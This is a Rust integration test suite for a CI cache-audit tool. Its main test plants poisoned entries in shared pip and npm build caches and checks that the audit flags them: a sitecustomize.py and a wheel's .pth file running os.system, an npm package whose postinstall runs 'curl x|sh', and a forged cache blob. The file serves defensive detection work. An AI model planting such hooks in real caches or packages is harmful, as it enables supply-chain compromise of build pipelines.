//! `audit mounts` on a real dockerd: a baseline after trusted builds, then an untrusted build
//! plants a startup hook in the shared pip cache, overwrites an npm content blob and adds a
//! correctly addressed npm package tarball with a `postinstall` script, and caches a wheel
//! carrying a `.pth` file; the audit names each
//! with the planting run, and a clean rebuild by the trusted pipeline raises nothing new.

use std::io::Write as _;
use std::path::PathBuf;

use sha2::{Digest as _, Sha512};

use crate::common::{Env, ok, output};
use crate::harness::Engine;
use crate::scenarios::{FORK, Lab, WEBAPP};

const B: &str = "ci-shared";

/// The npm blob's address for `content`: `_cacache/content-v2/sha512/<2>/<2>/<rest>`.
fn blob_path(content: &[u8]) -> String {
    let hex: String = Sha512::digest(content)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    format!(
        "_cacache/content-v2/sha512/{}/{}/{}",
        &hex[..2],
        &hex[2..4],
        &hex[4..]
    )
}

/// A gzipped tarball of regular files, as `npm pack` writes one (ustar headers, two zero
/// blocks at the end).
fn npm_tgz(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    for (name, data) in files {
        let mut h = [0u8; 512];
        h[..name.len()].copy_from_slice(name.as_bytes());
        h[100..107].copy_from_slice(b"0000644");
        h[108..115].copy_from_slice(b"0000000");
        h[116..123].copy_from_slice(b"0000000");
        h[124..135].copy_from_slice(format!("{:011o}", data.len()).as_bytes());
        h[136..147].copy_from_slice(b"00000000000");
        h[156] = b'0';
        h[257..263].copy_from_slice(b"ustar\0");
        h[263..265].copy_from_slice(b"00");
        h[148..156].copy_from_slice(b"        ");
        let sum: u32 = h.iter().map(|b| u32::from(*b)).sum();
        h[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
        gz.write_all(&h).unwrap();
        gz.write_all(data).unwrap();
        gz.write_all(&vec![0; (512 - data.len() % 512) % 512])
            .unwrap();
    }
    gz.write_all(&[0; 1024]).unwrap();
    gz.finish().unwrap()
}

/// A wheel as pip caches one built: a zip of stored members with CRC-32s, and a
/// `<name>.dist-info/RECORD` listing each member's `sha256=` hash.
fn wheel(dist_info: &str, files: &[(&str, &[u8])]) -> Vec<u8> {
    use base64::Engine as _;
    let record_name = format!("{dist_info}/RECORD");
    let mut record = String::new();
    for (name, data) in files {
        record.push_str(&format!(
            "{name},sha256={},{}\n",
            base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(data)),
            data.len()
        ));
    }
    record.push_str(&format!("{record_name},,\n"));
    let mut members: Vec<(&str, &[u8])> = files.to_vec();
    members.push((&record_name, record.as_bytes()));
    let (mut out, mut dir) = (Vec::new(), Vec::new());
    for (name, data) in &members {
        let mut crc = flate2::Crc::new();
        crc.update(data);
        let offset = out.len() as u32;
        // Version 2.0, no flags, stored, no time: the fields after the signature both
        // headers share.
        let mut common = vec![20u8, 0, 0, 0, 0, 0, 0, 0, 0, 0];
        common.extend_from_slice(&crc.sum().to_le_bytes());
        common.extend_from_slice(&(data.len() as u32).to_le_bytes());
        common.extend_from_slice(&(data.len() as u32).to_le_bytes());
        common.extend_from_slice(&(name.len() as u16).to_le_bytes());
        common.extend_from_slice(&0u16.to_le_bytes());
        out.extend_from_slice(b"PK\x03\x04");
        out.extend_from_slice(&common);
        out.extend_from_slice(name.as_bytes());
        out.extend_from_slice(data);
        dir.extend_from_slice(b"PK\x01\x02");
        dir.extend_from_slice(&[20, 3]);
        dir.extend_from_slice(&common);
        // No comment, disk 0, no internal attributes; a regular file's mode, Unix-style.
        dir.extend_from_slice(&[0; 6]);
        dir.extend_from_slice(&(0o100644u32 << 16).to_le_bytes());
        dir.extend_from_slice(&offset.to_le_bytes());
        dir.extend_from_slice(name.as_bytes());
    }
    let dir_at = out.len() as u32;
    out.extend_from_slice(&dir);
    out.extend_from_slice(b"PK\x05\x06");
    out.extend_from_slice(&[0; 4]);
    out.extend_from_slice(&(members.len() as u16).to_le_bytes());
    out.extend_from_slice(&(members.len() as u16).to_le_bytes());
    out.extend_from_slice(&(dir.len() as u32).to_le_bytes());
    out.extend_from_slice(&dir_at.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

/// A build context with this Dockerfile (its `{BASE}` filled in) and files.
fn project(lab: &Lab, dir: &str, dockerfile: &str, files: &[(&str, &[u8])]) -> PathBuf {
    let root = lab.env.path().join("src").join(dir);
    std::fs::create_dir_all(&root).unwrap();
    std::fs::write(
        root.join("Dockerfile"),
        dockerfile.replace("{BASE}", &lab.base),
    )
    .unwrap();
    for (name, bytes) in files {
        std::fs::write(root.join(name), bytes).unwrap();
    }
    root
}

fn audit(lab: &Lab, extra: &[&str]) -> (i32, serde_json::Value, String) {
    let out = lab
        .cw()
        .args(["audit", "mounts", "--builder", B, "--format", "json"])
        .args(extra)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let doc = serde_json::from_str(&stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}):\n{stdout}\n{stderr}"));
    crate::schemas::assert_valid("audit-mounts.schema.json", &doc);
    (out.status.code().unwrap_or(-1), doc, stderr)
}

fn findings<'a>(doc: &'a serde_json::Value, code: &str) -> Vec<&'a serde_json::Value> {
    doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["code"] == code)
        .collect()
}

/// The planted `sitecustomize.py`, wheel carrying `evil.pth`, npm tarball with a
/// `postinstall` script and cut-off npm tarball (CW012 each), the overwritten npm blob (CW011) and the lower-trust change (CW013)
/// are found with the untrusted run that wrote them; a trusted rebuild afterwards raises
/// nothing new; an incident opens from the finding.
#[test]
fn planted_hook_and_overwritten_blob_are_found_with_their_run() {
    let Some(lab) = Lab::start_on(Engine::Docker20, &[B], &[]) else {
        return;
    };
    let blob: &[u8] = b"lodash-4.17.21.tgz, as the registry served it\n";
    let blob_at = blob_path(blob);
    let dir = blob_at.rsplit_once('/').unwrap().0.to_owned();
    let trusted = project(
        &lab,
        "webapp",
        &format!(
            "FROM {{BASE}}\n\
             COPY blob /src/blob\n\
             RUN --mount=type=cache,target=/root/.cache/pip \\\n    \
                 --mount=type=cache,id=npm,target=/root/.npm \\\n    \
                 mkdir -p /root/.cache/pip/wheels /root/.npm/{dir} && \\\n    \
                 echo flask > /root/.cache/pip/wheels/flask.txt && \\\n    \
                 cp /src/blob /root/.npm/{blob_at} && cp -a /root/.cache/pip /app-pip\n"
        ),
        &[("blob", blob)],
    );
    lab.build(B, &WEBAPP, "1", &trusted, "webapp:1", &[]);

    // `--mount` snapshots that mount alone.
    let (code, doc, stderr) = audit(&lab, &["--baseline", "--mount", "npm"]);
    assert_eq!(code, 0, "{doc:#}\n{stderr}");
    let mounts: Vec<&str> = doc["mounts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["mount_id"].as_str().unwrap())
        .collect();
    assert_eq!(mounts, vec!["npm"], "{doc:#}");
    assert_eq!(doc["summary"]["files"], 1, "{doc:#}");

    let (code, doc, stderr) = audit(&lab, &["--baseline"]);
    assert_eq!(code, 0, "{doc:#}\n{stderr}");
    let mounts: Vec<&str> = doc["mounts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["mount_id"].as_str().unwrap())
        .collect();
    assert_eq!(mounts, vec!["/root/.cache/pip", "npm"], "{doc:#}");
    assert_eq!(doc["summary"]["files"], 2, "{doc:#}");
    assert!(doc["findings"].as_array().unwrap().is_empty(), "{doc:#}");

    // A package tarball as npm caches it: at the sha512 of its bytes, so no content check
    // objects; only its `package.json` gives it away.
    let evil = npm_tgz(&[
        ("package/index.js", b"module.exports = 1;\n"),
        (
            "package/package.json",
            br#"{"name":"left-pad","version":"1.3.1","scripts":{"postinstall":"node -e \"require('child_process').exec('curl x|sh')\""}}"#,
        ),
    ]);
    let evil_at = blob_path(&evil);
    let evil_dir = evil_at.rsplit_once('/').unwrap().0.to_owned();
    // One cut off halfway, also at its own address: what it holds past the cut is unknown.
    let whole = npm_tgz(&[
        ("package/lib.js", &[b'x'; 20_000]),
        ("package/package.json", b"{}"),
    ]);
    let cut = whole[..whole.len() / 2].to_vec();
    let cut_at = blob_path(&cut);
    let cut_dir = cut_at.rsplit_once('/').unwrap().0.to_owned();
    // A built wheel as pip caches it, consistent with its RECORD, whose top-level `evil.pth`
    // pip would install into site-packages.
    let whl = wheel(
        "evil-1.0.dist-info",
        &[
            ("evil/__init__.py", b""),
            ("evil.pth", b"import os; os.system('id')\n"),
        ],
    );
    let whl_at = "wheels/3f/9a/evil-1.0-py3-none-any.whl";
    let fork = project(
        &lab,
        "fork",
        &format!(
            "FROM {{BASE}}\n\
             COPY evil.tgz cut.tgz evil.whl /src/\n\
             RUN --mount=type=cache,target=/root/.cache/pip \\\n    \
                 --mount=type=cache,id=npm,target=/root/.npm \\\n    \
                 echo 'import os; os.system(\"id\")' > /root/.cache/pip/sitecustomize.py && \\\n    \
                 mkdir -p /root/.cache/pip/wheels/3f/9a && cp /src/evil.whl /root/.cache/pip/{whl_at} && \\\n    \
                 echo 'module.exports = steal' > /root/.npm/{blob_at} && \\\n    \
                 mkdir -p /root/.npm/{evil_dir} /root/.npm/{cut_dir} && \\\n    \
                 cp /src/evil.tgz /root/.npm/{evil_at} && cp /src/cut.tgz /root/.npm/{cut_at}\n"
        ),
        &[("evil.tgz", &evil), ("cut.tgz", &cut), ("evil.whl", &whl)],
    );
    lab.build(B, &FORK, "1", &fork, "fork-pr:1", &[]);

    let (code, doc, stderr) = audit(&lab, &[]);
    assert_eq!(code, 1, "{doc:#}\n{stderr}");
    let hooks = findings(&doc, "CW012");
    let mut hook_paths: Vec<(&str, &str)> = hooks
        .iter()
        .map(|f| (f["mount_id"].as_str().unwrap(), f["path"].as_str().unwrap()))
        .collect();
    hook_paths.sort();
    let mut expected = vec![
        ("/root/.cache/pip", "sitecustomize.py"),
        ("/root/.cache/pip", whl_at),
        ("npm", evil_at.as_str()),
        ("npm", cut_at.as_str()),
    ];
    expected.sort();
    assert_eq!(hook_paths, expected, "{doc:#}");
    for f in &hooks {
        let writers = f["detail"]["writers"].as_str().unwrap();
        assert!(
            writers.contains("fork-pr/1/") && writers.contains("(untrusted)"),
            "{doc:#}"
        );
        assert_eq!(f["detail"]["change"], "added", "{f:#}");
    }
    let by_path = |path: &str| *hooks.iter().find(|f| f["path"] == path).unwrap();
    let tarball = by_path(&evil_at);
    assert_eq!(tarball["detail"]["scripts"], "postinstall", "{tarball:#}");
    assert_eq!(
        tarball["detail"]["manifests"], "package/package.json: postinstall",
        "{tarball:#}"
    );
    assert!(tarball["detail"].get("unread").is_none(), "{tarball:#}");
    assert!(
        tarball["detail"]["writer_runs"]
            .as_str()
            .unwrap()
            .starts_with("fork-pr/1/"),
        "{tarball:#}"
    );
    assert!(
        tarball["message"]
            .as_str()
            .unwrap()
            .contains("`package/package.json` declares `postinstall`"),
        "{tarball:#}"
    );
    // The wheel is named with its hook member; it matches its RECORD, so no CW011 for it.
    let planted = by_path(whl_at);
    assert_eq!(planted["detail"]["members"], "evil.pth", "{planted:#}");
    assert!(
        planted["message"].as_str().unwrap().contains("`evil.pth`"),
        "{planted:#}"
    );
    assert!(
        planted["detail"]["writer_runs"]
            .as_str()
            .unwrap()
            .starts_with("fork-pr/1/"),
        "{planted:#}"
    );
    assert!(planted["detail"].get("unread").is_none(), "{planted:#}");
    let npm_mount = doc["mounts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["mount_id"] == "npm")
        .unwrap();
    assert_eq!(npm_mount["added"], 2, "{doc:#}");
    // Every added or changed file is listed per mount, with the run that wrote the mount since
    // the baseline and its trust level.
    let listed = |mount: &str| -> Vec<(String, String)> {
        let m = doc["mounts"]
            .as_array()
            .unwrap()
            .iter()
            .find(|m| m["mount_id"] == mount)
            .unwrap();
        assert_eq!(m["changes"]["truncated"], 0, "{m:#}");
        let writers = m["changes"]["writers"].as_array().unwrap();
        assert_eq!(writers.len(), 1, "{m:#}");
        assert!(
            writers[0]["run"]
                .as_str()
                .unwrap()
                .starts_with("fork-pr/1/"),
            "{m:#}"
        );
        assert_eq!(writers[0]["trust_level"], "untrusted", "{m:#}");
        m["changes"]["paths"]
            .as_array()
            .unwrap()
            .iter()
            .map(|p| {
                (
                    p["path"].as_str().unwrap().to_owned(),
                    p["change"].as_str().unwrap().to_owned(),
                )
            })
            .collect()
    };
    let mut npm_expected = vec![
        (blob_at.clone(), "changed".to_owned()),
        (evil_at.clone(), "added".to_owned()),
        (cut_at.clone(), "added".to_owned()),
    ];
    npm_expected.sort();
    assert_eq!(listed("npm"), npm_expected, "{doc:#}");
    assert_eq!(
        listed("/root/.cache/pip"),
        vec![
            ("sitecustomize.py".to_owned(), "added".to_owned()),
            (whl_at.to_owned(), "added".to_owned()),
        ],
        "{doc:#}"
    );
    // The cut tarball is a CW012 of its own, and counted and named as unchecked.
    let unread = by_path(&cut_at);
    assert!(
        unread["detail"]["unread"]
            .as_str()
            .unwrap()
            .contains("not read to its end"),
        "{unread:#}"
    );
    assert!(
        unread["detail"]["hook"]
            .as_str()
            .unwrap()
            .contains("install scripts are unknown"),
        "{unread:#}"
    );
    assert_eq!(npm_mount["unchecked"], 1, "{doc:#}");
    assert!(
        stderr.contains(&format!(
            "`{cut_at}` not checked: package tarball not read to its end"
        )),
        "{stderr}"
    );
    let blobs = findings(&doc, "CW011");
    assert_eq!(blobs.len(), 1, "{doc:#}");
    assert_eq!(blobs[0]["mount_id"], "npm");
    assert_eq!(blobs[0]["path"], blob_at.as_str());
    assert_eq!(blobs[0]["detail"]["rule"], "npm-cacache");
    assert_eq!(blobs[0]["detail"]["change"], "changed");
    assert!(
        blobs[0]["detail"]["writers"]
            .as_str()
            .unwrap()
            .contains("fork-pr/1/")
    );
    let lower = findings(&doc, "CW013");
    let lower_mounts: Vec<&str> = lower
        .iter()
        .map(|f| f["mount_id"].as_str().unwrap())
        .collect();
    assert_eq!(lower_mounts, vec!["/root/.cache/pip", "npm"], "{doc:#}");
    for f in &lower {
        assert!(
            f["detail"]["run"]
                .as_str()
                .unwrap()
                .starts_with("fork-pr/1/"),
            "{f:#}"
        );
        assert!(
            f["detail"]["earlier_writer"]
                .as_str()
                .unwrap()
                .contains("(release)")
        );
    }
    let hook_id = hooks[0]["id"].as_i64().unwrap();

    let blob_id = blobs[0]["id"].as_i64().unwrap();

    // Audited again with nothing changed, the hook and the lower-trust change are not new
    // changes any more; the blob still does not match, reported as seen before, in text and
    // SARIF.
    let text = output(
        &lab.env,
        lab.cw().args(["audit", "mounts", "--builder", B, "--all"]),
    );
    assert!(text.starts_with("exit: 1"), "{text}");
    assert!(!text.contains("changed mount "), "nothing changed: {text}");
    assert!(
        text.contains(&format!(
            "CW011 content-address-mismatch [error] finding {blob_id} (seen before): ci-shared:npm {blob_at}"
        )),
        "{text}"
    );
    let sarif = lab
        .cw()
        .args([
            "audit",
            "mounts",
            "--builder",
            B,
            "--all",
            "--format",
            "sarif",
        ])
        .output()
        .unwrap();
    let sarif: serde_json::Value = serde_json::from_slice(&sarif.stdout).unwrap();
    let rules: Vec<&str> = sarif["runs"][0]["tool"]["driver"]["rules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["id"].as_str().unwrap())
        .collect();
    assert_eq!(rules, vec!["CW011", "CW012", "CW013"]);
    assert_eq!(sarif["runs"][0]["results"].as_array().unwrap().len(), 1);

    // One audit of npm alone, then four of both mounts; the baseline's npm snapshot and the
    // last two audits saw nothing change and share the file rows of the one before (the
    // baseline's 2 rows, then 6).
    let conn = rusqlite::Connection::open(lab.env.db()).unwrap();
    let (snapshots, rows): (i64, i64) = conn
        .query_row(
            "SELECT (SELECT count(*) FROM mount_snapshots), (SELECT count(*) FROM mount_snapshot_files)",
            [],
            |row| Ok((row.get(0)?, row.get(1)?)),
        )
        .unwrap();
    assert_eq!((snapshots, rows), (9, 8));
    drop(conn);

    // The helper builds' layers, each an archive of a mount, were pruned after each copy.
    let df = crate::harness::http::unix(
        &lab.dockerd(B).socket(),
        &crate::harness::http::Request::get("/v1.41/system/df"),
    )
    .unwrap()
    .json();
    let left: Vec<&serde_json::Value> = df["BuildCache"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| {
            r["Type"] == "regular"
                && r["Description"]
                    .as_str()
                    .is_some_and(|d| d.contains("cachewarden-mount.tar"))
        })
        .collect();
    assert!(
        left.is_empty(),
        "helper layers left on the builder: {left:#?}"
    );

    // The trusted pipeline rebuilds: nothing new, nothing changed, the rebuild its writer.
    lab.build(B, &WEBAPP, "2", &trusted, "webapp:2", &[]);
    let (code, doc, stderr) = audit(&lab, &[]);
    assert_eq!(code, 0, "{doc:#}\n{stderr}");
    assert!(doc["findings"].as_array().unwrap().is_empty(), "{doc:#}");
    for m in doc["mounts"].as_array().unwrap() {
        assert!(
            m["changes"]["paths"].as_array().unwrap().is_empty(),
            "{m:#}"
        );
        let writers = m["changes"]["writers"].as_array().unwrap();
        assert!(
            writers.len() == 1
                && writers[0]["run"].as_str().unwrap().starts_with("webapp/2/")
                && writers[0]["trust_level"] == "release",
            "{m:#}"
        );
    }
    assert!(
        doc["summary"]["seen_before"].as_u64().unwrap() >= 1,
        "{doc:#}"
    );

    // An incident from the hook finding seeds the mount and the planting run.
    let opened = ok(lab.cw().args([
        "incident",
        "open",
        "--from-audit",
        &hook_id.to_string(),
        "--format",
        "json",
    ]));
    let opened: serde_json::Value = serde_json::from_str(&opened).unwrap();
    assert!(
        opened["title"]
            .as_str()
            .unwrap()
            .starts_with(&format!("audit finding {hook_id} (CW012)")),
        "{opened:#}"
    );
    let actions = serde_json::to_string(&opened["actions"]).unwrap();
    assert!(
        actions.contains("/root/.cache/pip") && actions.contains("\"npm\""),
        "the incident prunes the planted mount and the one the planting run wrote: {opened:#}"
    );

    // The purge records both mounts empty: the next audit compares against that, not against
    // the poisoned snapshot.
    let incident = opened["incident"].as_i64().unwrap().to_string();
    lab.purge(&incident);
    let (code, doc, stderr) = audit(&lab, &[]);
    assert_eq!(code, 0, "{doc:#}\n{stderr}");
    for m in doc["mounts"].as_array().unwrap() {
        assert_eq!(m["files"], 0, "{doc:#}");
        assert_eq!(
            m["removed"], 0,
            "compared with the purge's empty snapshot: {doc:#}"
        );
    }
    assert!(
        doc["unknown_records"].as_array().unwrap().is_empty(),
        "{doc:#}"
    );
}

/// A cache mount only an unrecorded build used (Docker 20.10 names no id in its record) is
/// listed as an unknown mount, and the audit exits 1; the recorded mount is still audited.
#[test]
fn a_mount_no_recorded_run_used_is_listed() {
    let Some(lab) = Lab::start_on(Engine::Docker20, &[B], &[]) else {
        return;
    };
    let recorded = project(
        &lab,
        "recorded",
        "FROM {BASE}\nRUN --mount=type=cache,id=known,target=/k echo ok > /k/ok\n",
        &[],
    );
    lab.build(B, &WEBAPP, "1", &recorded, "recorded:1", &[]);
    let sneaky = project(
        &lab,
        "sneaky",
        "FROM {BASE}\nRUN --mount=type=cache,id=sneaky,target=/sneaky echo x > /sneaky/x\n",
        &[],
    );
    lab.dockerd(B).build(&sneaky, "sneaky:1", &[]);
    let (code, doc, stderr) = audit(&lab, &[]);
    assert_eq!(code, 1, "{doc:#}\n{stderr}");
    let unknown = doc["unknown_records"].as_array().unwrap();
    assert_eq!(unknown.len(), 1, "{doc:#}");
    assert!(
        unknown[0]["description"]
            .as_str()
            .unwrap()
            .starts_with("cached mount /sneaky from exec"),
        "{doc:#}"
    );
    assert_eq!(doc["mounts"][0]["mount_id"], "known");
    assert_eq!(doc["mounts"][0]["files"], 1);
}

/// `audit mounts --help` documents its flags.
#[test]
fn audit_mounts_help() {
    let env = crate::common::Env::new();
    insta::assert_snapshot!(output(&env, env.cmd().args(["audit", "mounts", "--help"])));
}

/// A mount id no run recorded needs a builder to look on; a builder with no known endpoint is
/// named: both exit 2 before anything runs.
#[test]
fn bad_selections_are_bad_input() {
    let env = crate::common::Env::new();
    let history = format!(
        "{}/examples/incident-history.jsonl",
        env!("CARGO_MANIFEST_DIR")
    );
    ok(env.cmd().args(["import", &history]));
    let out = output(&env, env.cmd().args(["audit", "mounts", "--mount", "nope"]));
    assert!(out.starts_with("exit: 2"), "{out}");
    assert!(
        out.contains("no recorded mount `nope`: pass --builder"),
        "{out}"
    );
    let out = output(
        &env,
        env.cmd()
            .args(["audit", "mounts", "--builder", "elsewhere"]),
    );
    assert!(out.starts_with("exit: 2"), "{out}");
    assert!(
        out.contains("no endpoint known for builder `elsewhere`"),
        "{out}"
    );
}

/// `cachewarden` as the benchmark runs it: `CACHEWARDEN_BENCH_BIN` (a release build) when set.
/// Under GNU time, when it is installed, for the peak memory.
fn bench_cw(lab: &Lab) -> std::process::Command {
    let base = lab.cw();
    let bin = std::env::var("CACHEWARDEN_BENCH_BIN")
        .unwrap_or_else(|_| base.get_program().to_string_lossy().into_owned());
    let time = std::path::Path::new("/usr/bin/time");
    let mut cmd = if time.exists() {
        let mut cmd = std::process::Command::new(time);
        cmd.args(["-f", "peak memory %M KB"]).arg(bin);
        cmd
    } else {
        std::process::Command::new(bin)
    };
    for (key, value) in base.get_envs() {
        match value {
            Some(value) => cmd.env(key, value),
            None => cmd.env_remove(key),
        };
    }
    if let Some(dir) = base.get_current_dir() {
        cmd.current_dir(dir);
    }
    cmd
}

/// Benchmark (run by `benches/audit_mounts.sh`, prints figures, asserts no times): a baseline
/// and an audit of one mount of `CACHEWARDEN_BENCH_FILES` files (100,000 by default), the
/// second after an untrusted build changed 100 of them and planted a hook.
#[test]
#[ignore = "benchmark: run by benches/audit_mounts.sh"]
fn bench_audit_of_a_large_mount() {
    let Some(lab) = Lab::start_on(Engine::Docker20, &[B], &[]) else {
        return;
    };
    let files: usize = std::env::var("CACHEWARDEN_BENCH_FILES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(100_000);
    let dirs = files.div_ceil(1000);
    let fill = project(
        &lab,
        "fill",
        &format!(
            "FROM {{BASE}}\n\
             RUN --mount=type=cache,id=bench,target=/c \\\n    \
                 i=0; while [ $i -lt {dirs} ]; do mkdir -p /c/d$i; j=0; \\\n    \
                 while [ $j -lt 1000 ] && [ $((i*1000+j)) -lt {files} ]; do echo \"file $i $j\" > /c/d$i/f$j; j=$((j+1)); done; \\\n    \
                 i=$((i+1)); done\n"
        ),
        &[],
    );
    let clock = std::time::Instant::now();
    lab.build(B, &WEBAPP, "1", &fill, "fill:1", &[]);
    println!(
        "bench: filled a mount with {files} files in {:.1}s",
        clock.elapsed().as_secs_f64()
    );

    let timed = |label: &str, extra: &[&str]| -> serde_json::Value {
        let clock = std::time::Instant::now();
        let out = bench_cw(&lab)
            .args([
                "-v",
                "audit",
                "mounts",
                "--builder",
                B,
                "--mount",
                "bench",
                "--format",
                "json",
            ])
            .args(extra)
            .output()
            .unwrap();
        let seconds = clock.elapsed().as_secs_f64();
        let doc: serde_json::Value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
        for line in String::from_utf8_lossy(&out.stderr).lines() {
            println!("bench:   {line}");
        }
        let n = doc["summary"]["files"].as_u64().unwrap();
        let db = std::fs::metadata(lab.env.db())
            .map(|m| m.len())
            .unwrap_or(0)
            + std::fs::metadata(lab.env.db().with_extension("db-wal"))
                .map(|m| m.len())
                .unwrap_or(0);
        println!(
            "bench: {label}: {n} files in {seconds:.2}s wall ({:.0} files/s), {} findings, store {:.1} MB",
            n as f64 / seconds,
            doc["summary"]["findings"],
            db as f64 / 1e6
        );
        doc
    };
    timed("baseline", &["--baseline"]);
    let change = project(
        &lab,
        "change",
        "FROM {BASE}\n\
         RUN --mount=type=cache,id=bench,target=/c \\\n    \
             j=0; while [ $j -lt 100 ]; do echo changed > /c/d0/f$j; j=$((j+1)); done; \\\n    \
             echo 'import os' > /c/sitecustomize.py\n",
        &[],
    );
    lab.build(B, &FORK, "1", &change, "change:1", &[]);
    let doc = timed("audit after 101 changes", &[]);
    let codes: Vec<&str> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["code"].as_str().unwrap())
        .collect();
    assert_eq!(codes, vec!["CW012", "CW013"], "{doc:#}");
    assert_eq!(doc["mounts"][0]["changed"], 100);
    assert_eq!(doc["mounts"][0]["added"], 1);
}

/// A mount under a namespace of its own (`BUILDKIT_CACHE_MOUNT_NS`) cannot be read by a helper
/// build, whose Dockerfile id the frontend puts in the default namespace: it is listed as not
/// audited (in the text and in `not_audited` of the JSON), never audited as the default
/// namespace's mount of that id.
#[test]
fn a_namespaced_mount_is_named_as_not_audited() {
    let env = Env::new();
    let history = env.write(
        "history.jsonl",
        &[
            r#"{"v":1,"type":"builder","name":"ci-9","driver":"docker","endpoint":"tcp://127.0.0.1:1"}"#,
            r#"{"v":1,"type":"run","pipeline":"team","run":"1","step":"s","builder":"ci-9","started_at":"2026-11-02T09:00:00Z","finished_at":"2026-11-02T09:05:00Z","mounts":[{"id":"pip","namespace":"team-a","target":"/root/.cache/pip"}]}"#,
        ]
        .join("\n"),
    );
    ok(env.cmd().arg("import").arg(&history));
    let out = output(
        &env,
        env.cmd().args(["audit", "mounts", "--builder", "ci-9"]),
    );
    assert!(
        out.contains("not audited on ci-9: mount team-a/pip is under a namespace of its own"),
        "{out}"
    );
}
